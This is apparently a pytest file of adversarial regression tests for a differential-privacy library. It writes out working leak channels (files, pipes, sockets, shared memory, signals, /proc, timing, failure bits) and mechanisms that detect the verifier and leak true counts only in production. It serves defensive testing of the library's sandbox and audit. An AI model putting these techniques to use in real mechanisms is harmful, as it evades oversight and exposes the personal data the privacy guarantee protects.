"""A fourth outside attack (issues 42 and 43): a third-party contributor who wants an unsafe mechanism past
``budgetcheck verify`` and into production, written from the public API only (README, docstrings, ``--help``).

Each test shows the harm end to end — the exact true counts in the attacker's hands, a measured privacy
loss far above the ε charged, or a window over ε — and asserts that the library prevents it. Attacks that
are open today are strict xfails whose reason names the class and the route (the lead removes the mark when
the fix lands); attacks that are closed today are plain tests that guard against a regression.

Classes: state channels out of user code run on true values (a ``measure`` fn and a ThresholdTest's
statistic, each in its forked child); the failure and timing channels; behaviour that depends on the setting
(passes ``verify``, leaks through ``publish``); a data model changed after binding; regimes the audit never
runs; history rewrites.

Notes for whoever turns an xfail into a pass: "verify exit 0" is ``verify_mechanism(...).meets("bounded")``
with 3 examples; the regime tests ask the statistical audit alone (``--stages d``, the stage whose job a
vouched sensitivity is; the other stages fork fn at every replayed step at ε != 1, minutes). A kept record's
amounts array can be shared with later charges of the same amount in every ledger of the process, so each
history test uses its own odd amount and writes the record back. Not shown: a personalized ``releases()`` that
departs from ``run()`` (no operation of PersonalizedLedger gave a harm to show with it; the refund route below
does not reach its (runs, classes) amounts).
"""

from __future__ import annotations

import contextlib
import io
import mmap
import os
import signal
import socket
import threading
import time
from collections.abc import Callable
from multiprocessing import shared_memory
from pathlib import Path

import numpy as np
import pytest

import budgetcheck as bc

# Small integer counts (< 256) at T = 3, d = 2: what the attacker wants, exactly.
DATA = np.array([[5.0, 7.0], [100.0, 3.0], [42.0, 42.0]])
TINY = 0.001  # the ε each attack call is charged: far below ε = 1 in any window

_HEADER = """
from __future__ import annotations

import sys

import attrs
import numpy as np

from budgetcheck import rounding


def uniform(stream, ledger):
    # what verify sees: ε/w Laplace at every t through the library's own derived sensitivity
    budget = rounding.share(ledger.params.epsilon, ledger.params.w)
    for secret in stream:
        yield ledger.laplace(secret, budget)


def near_exact(ledger, secret):
    # the leak: the same ε/w charged, for a sensitivity the mechanism vouches is 1e-9 (the counts ± 1e-8)
    budget = rounding.share(ledger.params.epsilon, ledger.params.w)
    return ledger.measure(lambda v: v, secret, sensitivity=1e-9, epsilon=budget, shape=secret.shape)


def as_run(releases, stream, ledger):
    out = np.zeros((ledger.runs, stream.length, stream.dimensions))
    for t, row in enumerate(releases(stream, ledger)):
        out[:, t] = row
    return out
"""


def _ledger(data: np.ndarray = DATA) -> tuple[bc.WindowLedger, bc.GuardedStream]:
    # the owner allows measured functions (vouched sensitivities): the attacks then meet the sandbox itself,
    # not the refusal a ledger without that consent gives before anything runs
    ledger = bc.WindowLedger(epsilon=1.0, w=3, sampler="numpy-laplace", allow_vouched=True)
    stream = bc.GuardedStream(data)
    ledger.bind(stream)
    return ledger, stream


def _leak_each(fn: Callable[[np.ndarray], object], *, after: Callable[[], None] | None = None) -> None:
    """Measures ``fn`` once per timestamp of DATA at ε = TINY; a refusal or a failure of the call ends the
    attack (the library prevented it: nothing more comes out)."""
    ledger, stream = _ledger()
    for secret in stream:
        try:
            ledger.measure(fn, secret, sensitivity=1.0, epsilon=TINY)
        except bc.BudgetcheckError:
            return
        if after is not None:
            after()


def _as_counts(raw: bytes) -> np.ndarray | None:
    if len(raw) != DATA.size * 8:
        return None
    return np.frombuffer(raw, dtype="<f8").reshape(DATA.shape)


def _payload(values: np.ndarray) -> bytes:
    return np.ascontiguousarray(values, dtype="<f8").tobytes()


# --- State channels out of a forked measure fn ------------------------------------------------------------

_SANDBOX = "state channel: a forked measure fn {}; the fork isolates memory, not the operating system"


def test_measure_fn_cannot_write_a_file(tmp_path: Path) -> None:
    """fn appends each payload to a file the mechanism reads afterwards: the true counts, exactly."""
    path = tmp_path / "leak.bin"

    def fn(values: np.ndarray) -> float:
        with open(path, "ab") as out:
            out.write(_payload(values))
        return 0.0

    _leak_each(fn)
    recovered = _as_counts(path.read_bytes()) if path.exists() else None
    assert recovered is None or not np.array_equal(recovered, DATA), "the file holds the true counts"


def test_measure_fn_cannot_write_an_inherited_pipe() -> None:
    """A pipe made before the call: the child inherits its write end and writes each payload there."""
    read_end, write_end = os.pipe()
    os.set_blocking(read_end, False)

    def fn(values: np.ndarray) -> float:
        os.write(write_end, _payload(values))
        return 0.0

    try:
        _leak_each(fn)
        try:
            raw = os.read(read_end, 4096)
        except BlockingIOError:
            raw = b""
    finally:
        os.close(read_end)
        os.close(write_end)
    recovered = _as_counts(raw)
    assert recovered is None or not np.array_equal(recovered, DATA), "the pipe carried the true counts"


def test_measure_fn_cannot_use_a_socketpair() -> None:
    ours, theirs = socket.socketpair()
    ours.setblocking(False)

    def fn(values: np.ndarray) -> float:
        theirs.sendall(_payload(values))
        return 0.0

    try:
        _leak_each(fn)
        try:
            raw = ours.recv(4096)
        except BlockingIOError:
            raw = b""
    finally:
        ours.close()
        theirs.close()
    recovered = _as_counts(raw)
    assert recovered is None or not np.array_equal(recovered, DATA), "the socket carried the true counts"


def test_measure_fn_cannot_reach_the_network() -> None:
    """A TCP server in this process (the attacker's collector); fn connects and sends each payload."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(2.0)
    port = server.getsockname()[1]
    received: list[bytes] = []

    def fn(values: np.ndarray) -> float:
        with socket.create_connection(("127.0.0.1", port), timeout=2.0) as conn:
            conn.sendall(_payload(values))
        return 0.0

    def collect() -> None:
        try:
            conn, _ = server.accept()
        except OSError:
            return
        with conn:
            conn.settimeout(2.0)
            received.append(conn.recv(64))

    _leak_each(fn, after=collect)
    server.close()
    recovered = _as_counts(b"".join(received))
    assert recovered is None or not np.array_equal(recovered, DATA), "the network carried the true counts"


def test_measure_fn_cannot_write_shared_memory() -> None:
    block = shared_memory.SharedMemory(create=True, size=DATA.size * 8)
    block.buf[:] = b"\0" * DATA.size * 8
    t = [0]

    def fn(values: np.ndarray) -> float:
        block.buf[t[0] * 16 : t[0] * 16 + 16] = _payload(values)
        return 0.0

    def advance() -> None:
        t[0] += 1

    try:
        _leak_each(fn, after=advance)
        recovered = _as_counts(bytes(block.buf))
    finally:
        block.close()
        block.unlink()
    assert recovered is None or not np.array_equal(recovered, DATA), "shared memory holds the true counts"


def test_measure_fn_cannot_write_a_shared_mapping() -> None:
    shared = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_SHARED)
    t = [0]

    def fn(values: np.ndarray) -> float:
        shared[t[0] * 16 : t[0] * 16 + 16] = _payload(values)
        return 0.0

    def advance() -> None:
        t[0] += 1

    _leak_each(fn, after=advance)
    recovered = _as_counts(shared[: DATA.size * 8])
    shared.close()
    assert recovered is None or not np.array_equal(recovered, DATA), "the mapping holds the true counts"


def test_measure_fn_cannot_signal_the_parent() -> None:
    """Bit i of (c_1 | c_2 << 8) set: fn sends SIGRTMIN + i to the mechanism's process. The mechanism blocks
    those signals around the call (so none interrupts it) and collects the pending set afterwards: distinct
    signals never merge, and each is pending before the child exits, so the set is the counts exactly."""
    wanted = {signal.SIGRTMIN + i for i in range(16)}
    got: set[int] = set()
    rows: list[list[float]] = []
    parent = os.getpid()

    def handler(signum: int, _frame: object) -> None:  # a thread that does not block them
        got.add(signum)

    def fn(values: np.ndarray) -> float:
        bits = int(values[0]) | int(values[1]) << 8
        for i in range(16):
            if bits >> i & 1:
                os.kill(parent, signal.SIGRTMIN + i)
        return 0.0

    def decode() -> None:
        for signum in signal.sigpending() & wanted:
            signal.sigtimedwait([signum], 0)
            got.add(signum)
        bits = sum(1 << (signum - signal.SIGRTMIN) for signum in got)
        rows.append([float(bits & 255), float(bits >> 8)])
        got.clear()

    previous = {signum: signal.signal(signum, handler) for signum in wanted}
    signal.pthread_sigmask(signal.SIG_BLOCK, wanted)
    try:
        _leak_each(fn, after=decode)
    finally:
        decode()  # nothing left pending
        signal.pthread_sigmask(signal.SIG_UNBLOCK, wanted)
        for signum, old in previous.items():
            signal.signal(signum, old)
    recovered = np.array(rows[: len(DATA)]) if len(rows) > len(DATA) else None
    assert recovered is None or not np.array_equal(recovered, DATA), "the signals spelled the true counts"


def test_measure_fn_cannot_leave_a_grandchild(tmp_path: Path) -> None:
    """fn forks a grandchild and returns at once (a well-formed answer, on time); the grandchild, which the
    call never waits for, writes the payload to a file a moment later."""
    path = tmp_path / "grandchild.bin"

    def fn(values: np.ndarray) -> float:
        if os.fork() == 0:
            try:
                time.sleep(0.05)
                with open(path, "ab") as out:
                    out.write(_payload(values))
            finally:
                os._exit(0)
        return 0.0

    _leak_each(fn)
    deadline = time.monotonic() + 5.0  # generous: the grandchildren may be slow to run on a loaded machine
    while time.monotonic() < deadline and not (path.exists() and path.stat().st_size >= DATA.size * 8):
        time.sleep(0.02)
    time.sleep(0.05)
    raw = path.read_bytes() if path.exists() else b""
    rows = {tuple(row) for row in np.frombuffer(raw[: len(raw) // 16 * 16], dtype="<f8").reshape(-1, 2)}
    recovered = DATA if rows == {tuple(row) for row in DATA} else None  # in whatever order they finished
    assert recovered is None or not np.array_equal(recovered, DATA), "the grandchild wrote the true counts"


def test_measure_fn_cannot_speak_through_proc() -> None:
    """fn renames itself (``/proc/self/comm``) to the counts and lingers; a thread of the mechanism's process
    reads its children's names from /proc while the call runs. No file, socket or descriptor is used."""
    seen: list[str] = []
    stop = threading.Event()
    me = os.getpid()

    def watch() -> None:
        while not stop.is_set():
            try:
                with open(f"/proc/{me}/task/{me}/children") as children:
                    kids = children.read().split()
            except OSError:
                kids = []
            for kid in kids:
                try:
                    with open(f"/proc/{kid}/comm") as comm:
                        seen.append(comm.read().strip())
                except OSError:
                    pass
            time.sleep(0.005)

    def fn(values: np.ndarray) -> float:
        with open("/proc/self/comm", "w") as comm:
            comm.write(f"v{int(values[0])}_{int(values[1])}")
        time.sleep(0.8)  # ample time for the watcher, even on a loaded machine
        return 0.0

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        _leak_each(fn)
    finally:
        stop.set()
        watcher.join()
    names = list(dict.fromkeys(name for name in seen if name.startswith("v")))
    recovered = np.array([[float(x) for x in name[1:].split("_")] for name in names]) if len(names) == 3 else None
    assert recovered is None or not np.array_equal(recovered, DATA), "/proc carried the true counts"


def test_measure_fn_cannot_set_the_parents_environment() -> None:
    """Closed today (regression guard): fn's ``os.environ`` is its own process's."""
    for key in ("BUDGETCHECK_ATTACK_0", "BUDGETCHECK_ATTACK_1"):
        os.environ.pop(key, None)

    def fn(values: np.ndarray) -> float:
        os.environ["BUDGETCHECK_ATTACK_0"] = str(values[0])
        os.environ["BUDGETCHECK_ATTACK_1"] = str(values[1])
        os.putenv("BUDGETCHECK_ATTACK_0", str(values[0]))
        return 0.0

    _leak_each(fn)
    assert "BUDGETCHECK_ATTACK_0" not in os.environ and "BUDGETCHECK_ATTACK_1" not in os.environ


def _threshold_leak(statistic: Callable[[np.ndarray], np.ndarray]) -> None:
    """A ThresholdTest queried at every t of DATA with ``statistic`` (run on the footprint's true values)."""
    ledger, stream = _ledger()
    try:
        test = ledger.above_threshold(epsilon=TINY, sensitivity=2.0, cells=(2,))
        for secret in stream:
            test.query(secret, statistic, 1e9)
    except bc.BudgetcheckError:
        return


def _contains_all_rows(raw: bytes) -> bool:
    """Whether every row of DATA appears, as two consecutive doubles, in what the channel carried."""
    values = np.frombuffer(raw[: len(raw) // 8 * 8], dtype="<f8")
    pairs = {tuple(values[i : i + 2]) for i in range(len(values) - 1)}
    return all(tuple(row) in pairs for row in DATA)


def test_threshold_statistic_cannot_write_a_file(tmp_path: Path) -> None:
    path = tmp_path / "footprints.bin"

    def statistic(footprints: np.ndarray) -> np.ndarray:
        with open(path, "ab") as out:
            out.write(_payload(footprints))
        return np.zeros((footprints.shape[0], footprints.shape[-1]))

    _threshold_leak(statistic)
    raw = path.read_bytes() if path.exists() else b""
    assert not _contains_all_rows(raw), "the file holds every true count"


def test_threshold_statistic_cannot_use_a_socketpair() -> None:
    ours, theirs = socket.socketpair()
    ours.setblocking(False)

    def statistic(footprints: np.ndarray) -> np.ndarray:
        theirs.sendall(_payload(footprints))
        return np.zeros((footprints.shape[0], footprints.shape[-1]))

    try:
        _threshold_leak(statistic)
        chunks = []
        while True:
            try:
                chunk = ours.recv(65536)
            except BlockingIOError:
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        ours.close()
        theirs.close()
    assert not _contains_all_rows(b"".join(chunks)), "the socket carried every true count"


# --- The failure channel and the timing channel -------------------------------------------------------------


def _bits_by_outcome(fail_when_set: Callable[[bool], object]) -> np.ndarray | None:
    """Reads each count of DATA bit by bit: call k at t asks fn for bit k of one count and fn *fails* (as
    ``fail_when_set`` does) iff it is set; every call is charged TINY (16 calls per t: 0.016 ≪ ε/w). Returns
    the counts as read, or None if the library refused a call."""
    ledger, stream = _ledger()
    rows = []
    for secret in stream:
        row = []
        for j in range(DATA.shape[1]):
            value = 0
            for k in range(8):

                def fn(values: np.ndarray, j: int = j, k: int = k) -> float:
                    fail_when_set(bool(int(values[j]) >> k & 1))
                    return 0.0

                try:
                    ledger.measure(fn, secret, sensitivity=1.0, epsilon=TINY)
                except bc.MeasurementFailed:
                    value |= 1 << k
                except bc.BudgetcheckError:
                    return None
            row.append(float(value))
        rows.append(row)
    return np.array(rows)


_FAILURE = "failure channel: MeasurementFailed raised to the mechanism is one exact bit per call ({})"


def test_failure_of_fn_by_raising_tells_nothing() -> None:
    def fail(bit: bool) -> None:
        if bit:
            raise ValueError("bit set")

    recovered = _bits_by_outcome(fail)
    assert recovered is None or not np.array_equal(recovered, DATA), "48 failures spelled the true counts"


def test_failure_of_fn_by_exiting_tells_nothing() -> None:
    def fail(bit: bool) -> None:
        if bit:
            os._exit(0)

    recovered = _bits_by_outcome(fail)
    assert recovered is None or not np.array_equal(recovered, DATA), "48 exits spelled the true counts"


def test_failure_of_fn_by_a_wrong_shape_tells_nothing() -> None:
    """fn returns a well-formed finite array, of shape (2,) instead of the declared () when the bit is set."""
    ledger, stream = _ledger()
    rows = []
    refused = False
    for secret in stream:
        row = []
        for j in range(DATA.shape[1]):
            value = 0
            for k in range(8):

                def fn(values: np.ndarray, j: int = j, k: int = k) -> object:
                    return np.zeros(2) if int(values[j]) >> k & 1 else 0.0

                try:
                    ledger.measure(fn, secret, sensitivity=1.0, epsilon=TINY)
                except bc.MeasurementFailed:
                    value |= 1 << k
                except bc.BudgetcheckError:
                    refused = True
            row.append(float(value))
        rows.append(row)
    assert refused or not np.array_equal(np.array(rows), DATA), "48 shapes spelled the true counts"


def test_time_taken_by_fn_tells_nothing() -> None:
    """Binary search on each count of t = 1 (values < 64): fn sleeps 1 s iff the count is >= the guess, the
    mechanism times measure. 12 calls at ε = 0.001 each recover both counts exactly. The margin (0.5 s) is
    wide against a loaded machine: a call without the sleep takes a few tens of milliseconds."""
    data = np.array([[37.0, 12.0], [0.0, 0.0]])
    ledger, stream = _ledger(data)
    secret = stream.secret(1)
    recovered = []
    for j in range(2):
        low, high = 0, 64
        while high - low > 1:
            guess = (low + high) // 2

            def fn(values: np.ndarray, j: int = j, guess: int = guess) -> float:
                if values[j] >= guess:
                    time.sleep(1.0)
                return 0.0

            start = time.perf_counter()
            try:
                ledger.measure(fn, secret, sensitivity=1.0, epsilon=TINY)
            except bc.BudgetcheckError:
                pass
            if time.perf_counter() - start > 0.5:
                low = guess
            else:
                high = guess
        recovered.append(float(low))
    assert recovered != [37.0, 12.0], "the call's duration gave both true counts exactly"


def _open_tests(ledger: bc.WindowLedger, stream: bc.GuardedStream, n: int) -> list[bc.ThresholdTest]:
    """n ThresholdTests (one per cell of d = 2), queried once at t = 1 (an instance opens there, untested): each one's
    next query at t = 2 runs its statistic on the footprint (x_1, x_2)."""
    tests = [ledger.above_threshold(epsilon=TINY, sensitivity=2.0, cells=(2,)) for _ in range(n)]
    for test in tests:
        test.query(stream.secret(1), lambda footprints: np.zeros((footprints.shape[0], 2)), 1e9)
    return tests


def test_failure_of_a_threshold_statistic_tells_nothing() -> None:
    """32 ThresholdTests, each charged 0.001 at t = 1 and t = 2: the one for bit k of x_i[j] raises iff it is
    set. The rows x_1 and x_2 come back exactly."""
    ledger, stream = _ledger()
    recovered = np.zeros((2, 2))
    try:
        tests = iter(_open_tests(ledger, stream, 32))
        for i in range(2):
            for j in range(2):
                for k in range(8):

                    def statistic(footprints: np.ndarray, i: int = i, j: int = j, k: int = k) -> np.ndarray:
                        if int(footprints[0, i, j]) >> k & 1:
                            raise ValueError("bit set")
                        return np.zeros((footprints.shape[0], 2))

                    try:
                        next(tests).query(stream.secret(2), statistic, 1e9)
                    except bc.MeasurementFailed:
                        recovered[i, j] += 1 << k
    except bc.BudgetcheckError:
        pass  # refused: nothing more comes out
    assert not np.array_equal(recovered, DATA[:2]), "32 failures spelled the true counts of t = 1 and 2"


def test_time_taken_by_a_threshold_statistic_tells_nothing() -> None:
    """Binary search on x_2 (values < 64) through 12 ThresholdTests: the statistic sleeps 1 s iff the count
    is >= the guess; the mechanism times the query (the margin, 0.5 s, as for measure)."""
    data = np.array([[0.0, 0.0], [37.0, 12.0], [0.0, 0.0]])
    ledger, stream = _ledger(data)
    tests = iter(_open_tests(ledger, stream, 12))
    recovered = []
    for j in range(2):
        low, high = 0, 64
        while high - low > 1:
            guess = (low + high) // 2

            def statistic(footprints: np.ndarray, j: int = j, guess: int = guess) -> np.ndarray:
                if footprints[0, -1, j] >= guess:
                    time.sleep(1.0)
                return np.zeros((footprints.shape[0], 2))

            start = time.perf_counter()
            try:
                next(tests).query(stream.secret(2), statistic, 1e9)
            except bc.BudgetcheckError:
                pass
            if time.perf_counter() - start > 0.5:
                low = guess
            else:
                high = guess
        recovered.append(float(low))
    assert recovered != [37.0, 12.0], "the query's duration gave both true counts exactly"


# --- Behaviour that depends on the setting: passes verify, leaks in production ---------------------------


def _published(mechanism: object, tmp_path: Path, rows: np.ndarray) -> dict[int, np.ndarray]:
    """What ``budgetcheck.publish`` wrote for ``rows`` (t = 1..T) through ``mechanism`` on a ledger file."""
    out = io.StringIO()
    lines = [f"{t}," + ",".join(str(int(c)) for c in row) for t, row in enumerate(rows, start=1)]
    try:
        bc.publish(
            mechanism,
            lines,
            tmp_path / "ledger.db",
            dimensions=rows.shape[1],
            epsilon=1.0,
            w=3,
            out=out,
            durability="process",
        )
    except bc.BudgetcheckError:
        pass  # refused: what was written before the refusal is still judged
    released = {}
    for line in out.getvalue().splitlines():
        t, *values = line.split(",")
        released[int(t)] = np.array([float(v) for v in values])
    return released


def _leaked(released: dict[int, np.ndarray], rows: np.ndarray, first: int = 1) -> bool:
    """Whether every release from t = first on is its true count to within 1e-3 (Laplace at ε/w would be
    off by about 3 per count)."""
    wanted = range(first, len(rows) + 1)
    return all(t in released and np.max(np.abs(released[t] - rows[t - 1])) < 1e-3 for t in wanted)


def _verify_passes(name: str) -> bool:
    """Whether ``budgetcheck verify name:Mech`` exits 0 (the default ``--require bounded``)."""
    return bc.verify_mechanism(f"{name}:Mech", examples=3).meets("bounded")


def _audit_passes(name: str) -> bool:
    """Whether verify's statistical audit (``--stages d``) passes the mechanism."""
    result = bc.verify_mechanism(f"{name}:Mech", examples=3, stages="d", allow_vouched=True)
    return all(stage.verdict == "pass" for stage in result.stages)


ROWS = np.array([[5, 7], [100, 3], [42, 42], [0, 9], [17, 1], [8, 64]], dtype=float)
_SETTING = "setting: leaks only when {}: verify exits 0, publish releases the true counts (vouched 1e-9)"


def test_a_mechanism_that_inspects_the_stack_for_verify(
    mechanism_module: Callable[[str, str], str], tmp_path: Path
) -> None:
    name = mechanism_module(
        "attack4_stack",
        """
        def under_verify():
            frame = sys._getframe(1)
            while frame is not None:
                if frame.f_globals.get("__name__", "").startswith("budgetcheck.verify"):
                    return True
                frame = frame.f_back
            return False


        def releases(stream, ledger):
            if under_verify():
                yield from uniform(stream, ledger)
                return
            for secret in stream:
                yield near_exact(ledger, secret)


        @attrs.frozen
        class Mech:
            name: str = "stack-inspector"

            def run(self, stream, ledger):
                return as_run(releases, stream, ledger)

            def releases(self, stream, ledger):
                return releases(stream, ledger)
        """,
    )
    leaked = _leaked(_published(bc.load_mechanism(f"{name}:Mech"), tmp_path, ROWS), ROWS)
    assert not (leaked and _verify_passes(name)), "verify exit 0, and publish released the true counts"


def test_a_mechanism_that_leaks_only_on_a_durable_ledger(
    mechanism_module: Callable[[str, str], str], tmp_path: Path
) -> None:
    name = mechanism_module(
        "attack4_durable",
        """
        def releases(stream, ledger):
            if ledger.journal is None:
                yield from uniform(stream, ledger)
                return
            for secret in stream:
                yield near_exact(ledger, secret)


        @attrs.frozen
        class Mech:
            name: str = "durable-only"

            def run(self, stream, ledger):
                return as_run(releases, stream, ledger)

            def releases(self, stream, ledger):
                return releases(stream, ledger)
        """,
    )
    leaked = _leaked(_published(bc.load_mechanism(f"{name}:Mech"), tmp_path, ROWS), ROWS)
    assert not (leaked and _verify_passes(name)), "verify exit 0, and publish released the true counts"


def test_a_mechanism_that_leaks_only_under_the_production_sampler(
    mechanism_module: Callable[[str, str], str], tmp_path: Path
) -> None:
    name = mechanism_module(
        "attack4_sampler",
        """
        def releases(stream, ledger):
            if ledger.sampler == "numpy-laplace":
                yield from uniform(stream, ledger)
                return
            for secret in stream:
                yield near_exact(ledger, secret)


        @attrs.frozen
        class Mech:
            name: str = "sampler-only"

            def run(self, stream, ledger):
                return as_run(releases, stream, ledger)

            def releases(self, stream, ledger):
                return releases(stream, ledger)
        """,
    )
    leaked = _leaked(_published(bc.load_mechanism(f"{name}:Mech"), tmp_path, ROWS), ROWS)
    assert not (leaked and _verify_passes(name)), "verify exit 0, and publish released the true counts"


def test_a_mechanism_that_leaks_only_past_the_horizon_verify_runs(
    mechanism_module: Callable[[str, str], str], tmp_path: Path
) -> None:
    name = mechanism_module(
        "attack4_horizon",
        """
        def releases(stream, ledger):
            budget = rounding.share(ledger.params.epsilon, ledger.params.w)
            for secret in stream:
                yield near_exact(ledger, secret) if secret.t > 300 else ledger.laplace(secret, budget)


        @attrs.frozen
        class Mech:
            name: str = "long-stream-only"

            def run(self, stream, ledger):
                return as_run(releases, stream, ledger)

            def releases(self, stream, ledger):
                return releases(stream, ledger)
        """,
    )
    rows = np.tile(ROWS, (52, 1))[:310]
    released = _published(bc.load_mechanism(f"{name}:Mech"), tmp_path, rows)
    leaked = _leaked(released, rows, first=301)
    assert not (leaked and _verify_passes(name)), "verify exit 0, and publish released t = 301..310 exactly"


def test_a_mechanism_that_leaks_only_on_its_first_run(
    mechanism_module: Callable[[str, str], str], tmp_path: Path
) -> None:
    """A publisher runs the mechanism once per process; verify runs it hundreds of times. The mechanism leaks
    on its first run only (here publish runs first; verify, in the same process, sees the honest path)."""
    name = mechanism_module(
        "attack4_first_run",
        """
        CALLS = [0]


        def releases(stream, ledger):
            CALLS[0] += 1
            if CALLS[0] > 1:
                yield from uniform(stream, ledger)
                return
            for secret in stream:
                yield near_exact(ledger, secret)


        @attrs.frozen
        class Mech:
            name: str = "first-run-only"

            def run(self, stream, ledger):
                return as_run(releases, stream, ledger)

            def releases(self, stream, ledger):
                return releases(stream, ledger)
        """,
    )
    leaked = _leaked(_published(bc.load_mechanism(f"{name}:Mech"), tmp_path, ROWS), ROWS)
    assert not (leaked and _verify_passes(name)), "verify exit 0, and publish released the true counts"


# --- Regimes the audit never runs ---------------------------------------------------------------------------

_REGIME = "regime: a vouched sensitivity of 1e-9 only {}; the audit runs at eps = 1, w in {{1, 3}}, d = 2"


def _regime_attack(
    mechanism_module: Callable[[str, str], str], name: str, condition: str, data: np.ndarray, epsilon: float, w: int
) -> None:
    name = mechanism_module(
        name,
        f"""
        def releases(stream, ledger):
            if not ({condition}):
                yield from uniform(stream, ledger)
                return
            for secret in stream:
                yield near_exact(ledger, secret)


        @attrs.frozen
        class Mech:
            name: str = "regime"

            def run(self, stream, ledger):
                return as_run(releases, stream, ledger)

            def releases(self, stream, ledger):
                return releases(stream, ledger)
        """,
    )
    # the owner allows vouched sensitivities (else the ledger refuses them) and relies on verify's audit
    mech = bc.load_mechanism(f"{name}:Mech")
    execution = bc.execute(mech, data, epsilon=epsilon, w=w, runs=2, seed=7, allow_vouched=True)
    leaked = bool(np.max(np.abs(execution.releases - data[None])) < 1e-3)
    # The stage whose job this is: the statistical audit (``--stages d``; the other stages check windows and
    # reads, which this mechanism keeps, and at ε != 1 they fork fn on every replayed step: minutes).
    assert not (leaked and _audit_passes(name)), "the audit passes, and the releases are the true counts"


def test_a_sensitivity_wrong_only_at_another_epsilon(mechanism_module: Callable[[str, str], str]) -> None:
    _regime_attack(mechanism_module, "attack4_eps", "ledger.params.epsilon != 1.0", ROWS, 0.5, 3)


def test_a_sensitivity_wrong_only_at_three_dimensions(mechanism_module: Callable[[str, str], str]) -> None:
    data = np.array([[5, 7, 1], [100, 3, 2], [42, 42, 0], [0, 9, 9]], dtype=float)
    _regime_attack(mechanism_module, "attack4_dims", "stream.dimensions >= 3", data, 1.0, 3)


def test_a_sensitivity_wrong_only_at_window_eight(mechanism_module: Callable[[str, str], str]) -> None:
    _regime_attack(mechanism_module, "attack4_w8", "ledger.params.w == 8", ROWS, 1.0, 8)


def test_a_sensitivity_wrong_only_under_another_relation(mechanism_module: Callable[[str, str], str]) -> None:
    """Under the default relation the mechanism releases through ``laplace`` (derived); under any other it vouches
    sensitivity 1 for the counts, where a person contributing up to 5 needs 5. Measured on 20,000 runs: the noise
    scale is 3 (1/ε_t at ε_t = 1/3) where 15 is due, a realised loss of 5/3 per timestamp and 5 in a window of
    3, against ε = 1."""
    name = mechanism_module(
        "attack4_relation",
        """
        def releases(stream, ledger):
            if stream.neighbours == type(stream.neighbours).one_bin():
                yield from uniform(stream, ledger)
                return
            budget = rounding.share(ledger.params.epsilon, ledger.params.w)
            for secret in stream:
                yield ledger.measure(lambda v: v, secret, sensitivity=1.0, epsilon=budget, shape=secret.shape)


        @attrs.frozen
        class Mech:
            name: str = "relation"

            def run(self, stream, ledger):
                return as_run(releases, stream, ledger)

            def releases(self, stream, ledger):
                return releases(stream, ledger)
        """,
    )
    data = np.full((3, 2), 10.0)
    stream = bc.GuardedStream(data, neighbours=bc.Neighbours.across_bins(BOUND))
    execution = bc.execute(
        bc.load_mechanism(f"{name}:Mech"), stream, epsilon=1.0, w=3, runs=RUNS, seed=11, allow_vouched=True
    )
    scale = float(np.mean(np.abs(execution.releases - data[None])))
    window_loss = 3 * BOUND / scale
    assert not (window_loss > 2.0 and _audit_passes(name)), f"the audit passes; realised loss {window_loss:.2f} > 1"


# --- A data model changed after binding ---------------------------------------------------------------------

RUNS = 20_000
EPSILON_T = 0.5
BOUND = 5  # across_bins(5): one person changes the counts by up to 5, so Laplace at ε_t needs scale 10


def _realised_loss(weaken: Callable[[bc.GuardedStream], None]) -> float:
    """The privacy loss a release at ε_t = 0.5 really has for a person contributing 5: Δ / (the noise scale
    measured over 20,000 runs, mean |noise| of Laplace(b) being b). A refusal of the weakening or of the
    release gives 0 (nothing released)."""
    data = np.full((3, 2), 10.0)
    stream = bc.GuardedStream(data, neighbours=bc.Neighbours.across_bins(BOUND))
    ledger = bc.WindowLedger(epsilon=1.0, w=3, runs=RUNS, seed=3, sampler="numpy-laplace")
    ledger.bind(stream)
    try:
        weaken(stream)
        released = ledger.laplace(stream.secret(1), EPSILON_T)
    except (bc.BudgetcheckError, AttributeError, TypeError):
        return 0.0
    scale = float(np.mean(np.abs(released[:, 0] - 10.0)))
    return BOUND / scale


def test_an_unchanged_relation_gives_the_loss_charged() -> None:
    """The baseline the attacks below depart from: about 0.5 (within 5%) at ε_t = 0.5."""
    assert _realised_loss(lambda stream: None) == pytest.approx(EPSILON_T, rel=0.05)


_MODEL = "data model: the stream's relation weakened after bind by {}; sensitivity 5 -> 1"


def test_the_relation_bound_cannot_be_lowered_after_binding() -> None:
    loss = _realised_loss(lambda stream: object.__setattr__(stream.neighbours, "bound", 1))
    assert loss <= EPSILON_T * 1.1, f"realised loss {loss:.2f} for a charge of {EPSILON_T}"


def _weakened() -> type | None:
    """A class of the same layout as Neighbours (no new slots) whose ``bound`` says 1, so an instance's
    ``__class__`` can be swapped to it; None when the library refuses to let Neighbours be subclassed."""
    try:

        class Weakened(bc.Neighbours):
            __slots__ = ()

            @property  # shadows the slot on purpose: the attack
            def bound(self) -> int:
                return 1

    except TypeError:
        return None
    return Weakened


def test_the_relation_cannot_be_swapped_for_a_subclass_after_binding() -> None:
    weakened = _weakened()

    def swap(stream: bc.GuardedStream) -> None:
        if weakened is not None:
            object.__setattr__(stream.neighbours, "__class__", weakened)

    loss = _realised_loss(swap)
    assert loss <= EPSILON_T * 1.1, f"realised loss {loss:.2f} for a charge of {EPSILON_T}"


def test_the_streams_class_cannot_be_swapped_after_binding() -> None:
    """Closed (regression guard): a GuardedStream subclass whose ``neighbours`` says one_bin(); refused at its
    creation now, or swapped in to no effect."""
    try:

        class Lying(bc.GuardedStream):
            __slots__ = ()

            @property
            def neighbours(self) -> bc.Neighbours:
                return bc.Neighbours.one_bin()

    except TypeError:
        Lying = None  # type: ignore[assignment,misc]

    def swap(stream: bc.GuardedStream) -> None:
        if Lying is not None:
            stream.__class__ = Lying

    loss = _realised_loss(swap)
    assert loss <= EPSILON_T * 1.1, f"realised loss {loss:.2f} for a charge of {EPSILON_T}"


def test_the_relation_class_cannot_be_patched_after_binding(monkeypatch: pytest.MonkeyPatch) -> None:
    """Closed today (regression guard): the Neighbours class's sensitivity method replaced for everyone."""

    def weaken(stream: bc.GuardedStream) -> None:
        monkeypatch.setattr(bc.Neighbours, "identity_sensitivity", lambda self, *a, **k: 1.0)

    loss = _realised_loss(weaken)
    assert loss <= EPSILON_T * 1.1, f"realised loss {loss:.2f} for a charge of {EPSILON_T}"


# --- History rewrites -------------------------------------------------------------------------------------


def _overspend(rewrite: Callable[[np.ndarray, np.ndarray], None], first: float, runs: int = 2) -> float:
